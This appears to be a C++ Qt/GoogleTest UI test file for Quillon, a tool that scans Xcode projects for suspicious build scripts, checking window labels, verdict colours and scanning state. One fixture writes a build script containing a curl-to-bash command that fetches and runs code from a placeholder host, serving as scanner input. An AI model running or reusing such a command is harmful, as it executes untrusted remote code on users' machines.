#include <QLabel>

#include "UiFixture.h"
#include "scan/ScanPipelines.h"
#include "ui/Spinner.h"
#include "ui/ViewController.h"

namespace quillon::ui::testing {
namespace {

class SingleProjectWindow : public DashboardFixture {
  protected:
    std::unique_ptr<ViewController> makeWindow(ViewController::ProjectScan scan = {}) {
        if (!scan) {
            scan = [](const platform::FileURL& folder) {
                return scan::runSingleProjectScan(folder, platform::nullOutput());
            };
        }
        auto window = std::make_unique<ViewController>(chooser, queue, std::move(scan));
        window->show();
        return window;
    }
    platform::FileURL projectWith(const std::string& name, const std::string& script,
                                  const std::string& scriptPath = "Scripts/build.sh") {
        tree.write(name + "/" + name + ".xcodeproj/project.pbxproj", "// !$*UTF8*$!");
        tree.write(name + "/" + scriptPath, script);
        return platform::FileURL(tree.path(name), true);
    }
    void choose(ViewController& window, std::optional<platform::FileURL> folder) {
        chooser.next = std::move(folder);
        window.selectButton()->click();
    }
    bool waitForResult(ViewController& window) {
        return QTest::qWaitFor([&] { return window.selectButton()->isEnabled(); }, 10000);
    }
    const Appearance appearance = currentAppearance();
    const QColor red = namedColor(NamedColor::systemRed, appearance, 0.2);
    const QColor green = namedColor(NamedColor::systemGreen, appearance, 0.15);
};

TEST_F(SingleProjectWindow, InitialState) {
    auto window = makeWindow();
    EXPECT_EQ(window->titleLabel()->text(), "Quillon");
    EXPECT_EQ(window->titleLabel()->font().pixelSize(), 28);
    EXPECT_EQ(window->subtitleLabel()->text(),
              "Select your Xcode project to begin monitoring for suspicious activity.");
    EXPECT_EQ(window->selectButton()->text(), "Select Xcode Project");
    EXPECT_EQ(window->statusLabel()->text(), "No project selected yet.");
    EXPECT_FALSE(window->scanningLabel()->isVisible());
    EXPECT_FALSE(window->progressIndicator()->isVisible());
}

TEST_F(SingleProjectWindow, VerdictColoursAndCancelKeepsThem) {
    auto window = makeWindow();
    choose(*window, std::nullopt);
    EXPECT_EQ(window->statusLabel()->text(), "Selection cancelled.");
    EXPECT_EQ(chooser.titles.back(),
              "Select Xcode Project Folder | Choose a folder containing an Xcode project or "
              "workspace to monitor.");

    tree.write("Loose/.hidden/App.xcodeproj/project.pbxproj", "");
    choose(*window, platform::FileURL(tree.path("Loose"), true));
    EXPECT_EQ(window->statusLabel()->text(), "No Xcode project found in selected folder.");
    EXPECT_FALSE(window->selectedProjectURL().has_value());

    const struct {
        const char* name;
        std::string script;
        std::string path;
        bool threat;
    } cases[] = {
        {"ChmodApp", "chmod +x helper", "Scripts/build.sh", true},
        {"CurlApp", "curl -fsSL https://x.invalid/i | bash", "Scripts/build.sh", false},
        {"PodsApp", "chmod +x helper", "Pods/Lib/build.sh", false},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        choose(*window, projectWith(c.name, c.script, c.path));
        ASSERT_TRUE(waitForResult(*window));
        EXPECT_EQ(window->backgroundColor(), c.threat ? red : green);
        EXPECT_EQ(window->statusLabel()->text(),
                  c.threat ? QString::fromUtf8(
                                 "\u26A0\uFE0F Potential malware activity detected in project!")
                           : QString("No threats detected. Project appears clean."));
        EXPECT_FALSE(window->scanningLabel()->isVisible());
        EXPECT_FALSE(window->progressIndicator()->isVisible());

        choose(*window, std::nullopt);
        EXPECT_EQ(window->statusLabel()->text(), "Selection cancelled.");
        EXPECT_EQ(window->backgroundColor(), c.threat ? red : green);
    }
}

TEST_F(SingleProjectWindow, ScanningState) {
    monitor::fakes::Counter release;
    auto window = makeWindow([&](const platform::FileURL&) {
        release.waitFor(1);
        return true;
    });
    choose(*window, projectWith("Slow", "echo hi"));
    EXPECT_EQ(window->scanningLabel()->text(), QString::fromUtf8("Scanning project: Slow\u2026"));
    EXPECT_TRUE(window->scanningLabel()->isVisible());
    EXPECT_TRUE(window->progressIndicator()->isAnimating());
    EXPECT_EQ(window->statusLabel()->text(), "Analyzing build scripts and dependencies...");
    EXPECT_FALSE(window->selectButton()->isEnabled());
    EXPECT_EQ(window->selectedProjectURL(), platform::FileURL(tree.path("Slow"), true));
    release.increment();
    ASSERT_TRUE(waitForResult(*window));
    EXPECT_EQ(window->backgroundColor(), green);
}

}  // namespace
}  // namespace quillon::ui::testing
